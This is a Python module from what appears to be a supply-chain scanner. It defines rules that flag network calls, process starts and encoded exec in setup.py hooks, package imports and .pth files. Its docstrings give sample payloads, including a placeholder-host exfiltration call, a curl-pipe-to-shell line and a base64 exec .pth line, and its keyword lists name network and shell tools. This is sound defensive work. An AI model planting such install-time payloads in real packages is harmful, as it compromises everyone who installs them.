"""Install-time and import-time execution rules (DOU1xx): what setup.py, cmdclass hooks, package imports and .pth files do."""

from __future__ import annotations

import ast
import re
import weakref
from collections.abc import Iterator

from douane.analysis.context import FileContext, PyContext, child_nodes, walk_order
from douane.analysis.download import BUILD_TOOLS, FETCH_NAMES, host_kind, is_fetch
from douane.analysis.interface import FileType, Hit, Tag, all_of, gated
from douane.analysis.process import EXEC_NAMES, HOLE, command_of, is_exec_call, loose_str
from douane.analysis.pyapi import (
    DYNAMIC_EXEC,
    EXEC_TRIGGER,
    NETWORK_SEND,
    SYSTEM_TRIGGER,
    matches,
    written_names,
)
from douane.analysis.registry import file_rule, node_rule
from douane.domain import ArtifactKind, Confidence, Family, Severity, Where

# setuptools/distutils commands pip runs on install or build; an override's methods run then.
HOOKED_COMMANDS = frozenset({"install", "develop", "egg_info", "build", "build_py", "sdist",
                             "bdist_wheel", "bdist_egg", "build_ext", "install_lib",
                             "install_scripts", "install_data", "easy_install", "build_clib",
                             "build_scripts", "_install", "_develop", "_egg_info", "_build_py",
                             "_sdist", "_bdist_wheel", "orig_install"})  # fmt: skip
_BENIGN_COMMANDS = BUILD_TOOLS | frozenset({"clear", "cls", "echo", "title", "chcp", "color",
                                            "python", "python3", "py", "sys.executable",
                                            "pip", "pip3", "mode", "ver", "id", "whoami",
                                            "twine", "rm", "cp", "mv", "mkdir", "ln", "touch",
                                            "setup.py", "./setup.py", "cython", "cythonize",
                                            "f2py", "gfortran", "ifort", "xcrun", "llvm-config",
                                            "nvidia-smi", "hipcc", "mpicc", "lrelease", "pyrcc5",
                                            "pyuic5", "doxygen", "flex", "bison", "javac", "mvn",
                                            "gradle", "dotnet", "jupyter", "pytest", "tox",
                                            "sphinx-apidoc", "pylint", "flake8", "black", "ruff",
                                            "mypy", "coverage", "isort", "pre-commit",
                                            "pyinstaller", "wheel", "build", "ls", "dir"})  # fmt: skip
_CONSTRUCTORS = frozenset({"httpx.Client", "httpx.AsyncClient", "aiohttp.ClientSession",
                          "urllib.request.Request", "urllib2.Request", "requests.Session",
                          "http.client.HTTPSConnection", "http.client.HTTPConnection",
                          "httplib.HTTPSConnection", "httplib.HTTPConnection",
                          "urllib3.PoolManager", "socket.socket", "socket.gethostbyname"})  # fmt: skip
NETWORK_TRIGGERS = (b"urlopen", b"urlretrieve", b"requests", b"httpx", b"urllib", b"socket",
                    b"http.client", b"httplib", b"aiohttp", b"smtplib", b"ftplib", b"pycurl",
                    b"wget", b"Webhook", b"dns.resolver")  # fmt: skip
# what network_action resolves must write in code
NETWORK_NAMES = FETCH_NAMES | written_names(
    NETWORK_SEND,
    prefer=("requests", "httpx", "urllib2", "aiohttp", "pycurl", "socket", "smtplib", "ftplib",
            "telebot", "websocket", "dns", "dhooks", "discord_webhook", "httplib"),
)  # fmt: skip
PROCESS_TRIGGERS = (SYSTEM_TRIGGER, b"popen", b"Popen", b"subprocess", b"spawn", b"startfile",
                    b"ShellExecute", b"WinExec", b"getoutput", b"execv", b"execl")  # fmt: skip


_REACHED: weakref.WeakKeyDictionary[ast.AST, dict[int, str]] = weakref.WeakKeyDictionary()
_RUNNER_TAILS = frozenset({"Thread", "Timer", "register", "Process"})


def _is_main_guard(node: ast.AST) -> bool:
    if not isinstance(node, ast.If):
        return False
    test = ast.unparse(node.test)
    return "__name__" in test and "__main__" in test


def _hook_command(cls: ast.ClassDef) -> str | None:
    for base in cls.bases:
        name = ast.unparse(base).rsplit(".", 1)[-1]
        if name in HOOKED_COMMANDS:
            return name.lstrip("_").removeprefix("orig_")
    return None


def reached_calls(ctx: PyContext) -> dict[int, str]:
    """Every call that runs when the module is executed, by ``id``, with how execution gets
    there ("" at top level): top-level code, module functions it calls (also through
    `threading.Thread(target=...)` or `atexit.register`), and, in setup.py, the methods of
    setuptools command overrides. Built from the tree's structure alone, once per file."""
    cached = _REACHED.get(ctx.tree)
    if cached is not None:
        return cached
    tree = ctx.tree
    main_guard_runs = ctx.file.is_setup_py  # pip runs setup.py as __main__
    defs: dict[str, ast.FunctionDef | ast.AsyncFunctionDef] = {}
    queue: list[tuple[ast.AST, str]] = [(tree, "")]
    for stmt in tree.body:
        if isinstance(stmt, ast.FunctionDef | ast.AsyncFunctionDef):
            defs[stmt.name] = stmt
        elif isinstance(stmt, ast.ClassDef) and ctx.file.is_setup_py:
            command = _hook_command(stmt)
            for item in stmt.body if command else ():
                if isinstance(item, ast.FunctionDef | ast.AsyncFunctionDef):
                    queue.append((item, f"`{command}` override `{stmt.name}.{item.name}`"))
    out: dict[int, str] = {}
    seen: set[int] = set()
    while queue:
        scope, via = queue.pop(0)
        if id(scope) in seen:
            continue
        seen.add(id(scope))
        for node in _scope_walk(scope, main_guard_runs):
            if not isinstance(node, ast.Call):
                continue
            out.setdefault(id(node), via)
            targets: list[ast.AST] = [node.func]
            func_tail = ast.unparse(node.func).rsplit(".", 1)[-1]
            if func_tail in _RUNNER_TAILS:
                targets = [*node.args[:1], *(k.value for k in node.keywords if k.arg == "target")]
            for target in targets:
                if isinstance(target, ast.Name) and target.id in defs:
                    fn = defs[target.id]
                    queue.append((fn, via or f"function `{fn.name}()` called at top level"))
    _REACHED[tree] = out
    return out


def _scope_walk(scope: ast.AST, main_guard_runs: bool) -> Iterator[ast.AST]:
    body = getattr(scope, "body", [])
    stack = list(reversed(body))
    while stack:
        node = stack.pop()
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef | ast.ClassDef | ast.Lambda):
            continue
        if not main_guard_runs and isinstance(scope, ast.Module) and _is_main_guard(node):
            continue
        yield node
        stack.extend(reversed(child_nodes(node)))


# -- what a reached call does ---------------------------------------------------------------------


def network_action(call: ast.Call, ctx: PyContext, via: str = "") -> tuple[str, Severity] | None:
    """A network call, graded by its destination: a drop-box host is HIGH; a URL computed
    at run time deep inside a helper (`load(fname)` that may be a URL) is LOW."""
    name = ctx.call_name(call)
    if name in _CONSTRUCTORS or not (is_fetch(name) or matches(name, NETWORK_SEND)):
        return None
    url = loose_str(call.args[0], ctx) if call.args else None
    kind = host_kind(url) if url and "://" in url else None
    if kind:
        return f"`{name}` to a {kind}", Severity.HIGH
    if via and not (url and "://" in url):
        return f"`{name}`", Severity.LOW
    return f"`{name}`", Severity.MEDIUM


def process_action(call: ast.Call, ctx: PyContext, via: str = "") -> tuple[str, Severity] | None:
    """A process start, unless it runs a known build or console tool; a program whose name
    is only known at run time is LOW when it runs inside a helper (compilers, config tools)."""
    name = ctx.call_name(call)
    if not is_exec_call(name):
        return None
    cmd = command_of(call, ctx) or HOLE
    words = cmd.split()
    first = words[0].rsplit("/", 1)[-1].rsplit("\\", 1)[-1].lower() if words else HOLE
    first = first.removesuffix(".exe")
    if first in _BENIGN_COMMANDS:
        return None
    if first == HOLE and len(words) > 1 and re.match(r"(?:-m|-c|setup\.py|\S+\.py$)", words[1]):
        return None  # [sys.executable, "-m", ...]: Python running a module or a build script
    shown = " ".join(cmd.split())[:60]
    if first == HOLE and via:  # a program chosen at run time inside a helper: a compiler, a tool
        return f"`{name}` (`{shown}`)", Severity.LOW
    return f"`{name}` (`{shown}`)", Severity.MEDIUM


def _grade_hook(via: str, severity: Severity) -> Severity:
    """An `sdist` override runs when a maintainer builds the sdist, not on `pip install`."""
    return Severity.LOW if via.startswith("`sdist`") else severity


def _via(via: str, at: str) -> str:
    return f" in {via}" if via else f" at {at}"


def _is_install_script(file: FileContext) -> bool:
    """setup.py of an sdist: pip runs it (a wheel's stray setup.py is never run)."""
    return file.is_setup_py and file.where is Where.INSTALL


def _is_imported_module(file: FileContext) -> bool:
    name = file.rel_path.rsplit("/", 1)[-1]
    return (
        file.where is Where.IMPORT
        and not file.is_setup_py
        and name != "__main__.py"
        and name.endswith((".py", ".pyw"))  # extensionless files are scripts, never imported
    )


# -- rules ---------------------------------------------------------------------------------------


@node_rule(
    "DOU101",
    "install_time_network_call",
    family=Family.INSTALL_TIME,
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=NETWORK_TRIGGERS,
    tags=(Tag.NETWORK_SEND,),
)
@gated(_is_install_script)
def install_time_network_call(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags network calls that `setup.py` makes while pip builds or installs
    the package: at top level, in functions the top level calls, and in the methods of
    `cmdclass` overrides (`install`, `develop`, `egg_info`, `build_py`, `sdist`, ...).

    Why it matters: code in `setup.py` runs on every `pip install` of an sdist, before the
    user has imported anything. A network call there is how install-time malware phones home
    or fetches its payload; builds that need sources normally declare them instead. HIGH when
    the address is a raw IP, webhook, paste site, tunnel or file share; LOW in an `sdist`
    override, which runs only when a maintainer builds the sdist.

    Example: `class PostInstall(install): def run(self): requests.get("https://x.example.invalid", params=info)`.
    """
    if not _is_install_script(ctx.file):
        return
    via = reached_calls(ctx).get(id(node))
    found = network_action(node, ctx, via) if via is not None else None
    if found:
        what, severity = found
        yield ctx.hit(node, f"setup.py makes a network call {what}{_via(via, 'top level')}",
                      severity=_grade_hook(via, severity))  # fmt: skip


@node_rule(
    "DOU102",
    "install_time_process",
    family=Family.INSTALL_TIME,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    triggers=PROCESS_TRIGGERS,
    tags=(Tag.EXECUTE,),
)
@gated(_is_install_script)
def install_time_process(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags processes that `setup.py` starts while pip builds or installs the
    package (top level, functions it calls, `cmdclass` override methods), except the build
    tools setup scripts legitimately run (`git`, `cmake`, `make`, `msgfmt`, `npm`, the Python
    interpreter on a module or build script, ...).

    Why it matters: an sdist's `setup.py` runs with the installing user's rights; starting an
    unknown program there (a shell command, a dropped file, PowerShell) is the most common
    install-time payload. The override that only customises the build is not flagged.

    Example: `subprocess.Popen("powershell -w hidden -enc ...")` before `setup()`.
    """
    if not _is_install_script(ctx.file):
        return
    via = reached_calls(ctx).get(id(node))
    found = process_action(node, ctx, via) if via is not None else None
    if found:
        what, severity = found
        yield ctx.hit(node, f"setup.py starts a process {what}{_via(via, 'top level')}",
                      severity=_grade_hook(via, severity))  # fmt: skip


def _import_grade(ctx: PyContext, severity: Severity) -> Severity:
    """`__init__.py` (and a wheel's top-level module) runs on `import pkg`; another module's
    top level runs only if something imports it, and may be a script run by hand: one less."""
    rel = ctx.rel_path
    if rel.endswith("/__init__.py") or rel == "__init__.py":
        return severity
    if ctx.file.artifact_kind is ArtifactKind.WHEEL and "/" not in rel:
        return severity
    return Severity(max(Severity.LOW, severity - 1)) if severity < Severity.HIGH else severity


@node_rule(
    "DOU103",
    "import_time_network_call",
    family=Family.INSTALL_TIME,
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(all_of(NETWORK_TRIGGERS, NETWORK_NAMES),),
    tags=(Tag.NETWORK_SEND,),
)
@gated(_is_imported_module)
def import_time_network_call(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags network calls that run when a package module is imported: at
    module top level or in a module function the top level calls (also via
    `threading.Thread(target=...)`), outside `if __name__ == "__main__"`.

    Why it matters: libraries do not talk to the network on `import`; malware in
    `__init__.py` does, so that merely importing the package (or a dependency pulling it in)
    sends data or fetches a payload. HIGH when the address is a drop-box kind of host; one
    step lower outside `__init__.py` (such a module may be a script run by hand), and LOW
    for a URL only known at run time inside a helper.

    Example: `__init__.py` ending in `requests.post("https://x.example.invalid/c", data=info)`.
    """
    if not _is_imported_module(ctx.file):
        return
    via = reached_calls(ctx).get(id(node))
    found = network_action(node, ctx, via) if via is not None else None
    if found:
        what, severity = found
        yield ctx.hit(node, f"import makes a network call {what}{_via(via, 'module level')}",
                      severity=_import_grade(ctx, severity), where=Where.IMPORT)  # fmt: skip


@node_rule(
    "DOU104",
    "import_time_process",
    family=Family.INSTALL_TIME,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    triggers=(all_of(PROCESS_TRIGGERS, EXEC_NAMES),),
    tags=(Tag.EXECUTE,),
)
@gated(_is_imported_module)
def import_time_process(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags processes started when a package module is imported (top level,
    or module functions the top level calls), except build tools and console commands such
    as `git describe` or `cls`.

    Why it matters: importing a library should not start programs; malware starts its
    payload from `__init__.py` so that any import (including a test collector's) triggers it.
    Outside `__init__.py` it is one step lower (LOW), as is a program chosen at run time
    inside a helper.

    Example: `subprocess.Popen([exe_path])` at the bottom of `pkg/__init__.py`.
    """
    if not _is_imported_module(ctx.file):
        return
    via = reached_calls(ctx).get(id(node))
    found = process_action(node, ctx, via) if via is not None else None
    if found:
        what, severity = found
        yield ctx.hit(node, f"import starts a process {what}{_via(via, 'module level')}",
                      severity=_import_grade(ctx, severity), where=Where.IMPORT)  # fmt: skip


_SETUP_SEEN: weakref.WeakKeyDictionary[ast.AST, bool] = weakref.WeakKeyDictionary()


def _has_setup_call(ctx: PyContext) -> bool:
    found = _SETUP_SEEN.get(ctx.tree)
    if found is None:
        found = any(
            isinstance(sub, ast.Call) and ast.unparse(sub.func).rsplit(".", 1)[-1] == "setup"
            for sub in walk_order(ctx.tree)
        )
        _SETUP_SEEN[ctx.tree] = found
    return found


@node_rule(
    "DOU105",
    "setup_py_without_setup_call",
    family=Family.INSTALL_TIME,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    triggers=NETWORK_TRIGGERS + PROCESS_TRIGGERS + (EXEC_TRIGGER,),
    tags=(Tag.EXECUTE,),
)
@gated(_is_install_script)
def setup_py_without_setup_call(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a `setup.py` that never calls `setup()` but does run something:
    a process, a network call, or `exec`/`eval` of non-literal code.

    Why it matters: such a file is not a build script at all, only a payload that pip
    executes when asked to install the sdist (the install then fails, after the fact).

    Example: a `setup.py` holding only `import os; os.system("curl ... | sh")`.
    """
    if not _is_install_script(ctx.file) or _has_setup_call(ctx):
        return
    if reached_calls(ctx).get(id(node)) is None:
        return
    name = ctx.call_name(node)
    found = network_action(node, ctx) or process_action(node, ctx)
    if not found and name in DYNAMIC_EXEC and node.args and ctx.const_str(node.args[0]) is None:
        found = (f"`{name}`", Severity.HIGH)
    if found:
        yield ctx.hit(node, f"setup.py has no setup() call but runs {found[0]}")


_NSPKG = re.compile(r"sys\._getframe\(1\)\.f_locals\[['\"]sitedir['\"]\]")
_PTH_IMPORT = re.compile(r"^import[ \t]", re.MULTILINE)
_PTH_PAYLOAD = (
    (re.compile(r"urlopen|urlretrieve|requests\.|httpx|socket|http\.client|urllib", re.I), "network", Severity.CRITICAL),
    (re.compile(r"subprocess|os\.system|popen|\bspawn|startfile|pty\.", re.I), "process", Severity.CRITICAL),
    (re.compile(r"\b(?:exec|eval|compile)\s*\(\s*(?![rbuRBU]?['\"])|b64decode|base64|b32decode|fromhex|unhexlify|zlib|marshal|codecs\.decode|rot13|\\x[0-9a-f]{2}", re.I), "decoded or dynamic code", Severity.HIGH),
)  # fmt: skip


@file_rule(
    "DOU106",
    "pth_import_hook",
    family=Family.INSTALL_TIME,
    severity=Severity.LOW,
    confidence=Confidence.HIGH,
    file_types=(FileType.PTH,),
    triggers=(b"import",),
    tags=(),
)
def pth_import_hook(ctx: FileContext) -> Iterator[Hit]:
    """What it does: flags `.pth` lines that start with `import`, which Python executes at
    every interpreter start once the file sits in site-packages.

    Why it matters: it is the one place where shipped code runs without being imported, in
    every Python process. Editable installs and tools such as coverage use it in a
    documented way (`import x; x.install_hook()`), so on its own it is LOW; DOU107 flags a
    line that itself decodes, executes or reaches the network.

    Example: `import mypkg_hook; mypkg_hook.install()` in `mypkg.pth`.
    """
    for m in _PTH_IMPORT.finditer(ctx.text):
        line = ctx.line_text(ctx.line_of(m.start()))
        if _NSPKG.search(line):
            continue  # setuptools' generated namespace-package line
        if not any(p.search(line) for p, _, _ in _PTH_PAYLOAD):
            yield ctx.hit_at(
                m.start(), "`.pth` line runs an import hook at every interpreter start"
            )


@file_rule(
    "DOU107",
    "pth_line_runs_payload",
    family=Family.INSTALL_TIME,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    file_types=(FileType.PTH,),
    triggers=(b"import",),
    tags=(Tag.EXECUTE, Tag.DYNAMIC_EXEC),
)
def pth_line_runs_payload(ctx: FileContext) -> Iterator[Hit]:
    """What it does: flags an executable `.pth` line (one starting with `import`) that itself
    reaches the network, starts a process (CRITICAL), or decodes and executes code (HIGH).

    Why it matters: such a line runs in every Python process on the machine, before any
    user code, and survives uninstalling the package that dropped it. Legitimate hooks only
    import a module and call a function; they do not carry their logic inline.

    Example: `import base64; exec(base64.b64decode("aW1wb3J0IG9z..."))` in `init.pth`.
    """
    for m in _PTH_IMPORT.finditer(ctx.text):
        line = ctx.line_text(ctx.line_of(m.start()))
        for pattern, what, severity in _PTH_PAYLOAD:
            if pattern.search(line):
                yield ctx.hit_at(m.start(), f"`.pth` line runs {what} at every interpreter start",
                                 severity=severity)  # fmt: skip
                break
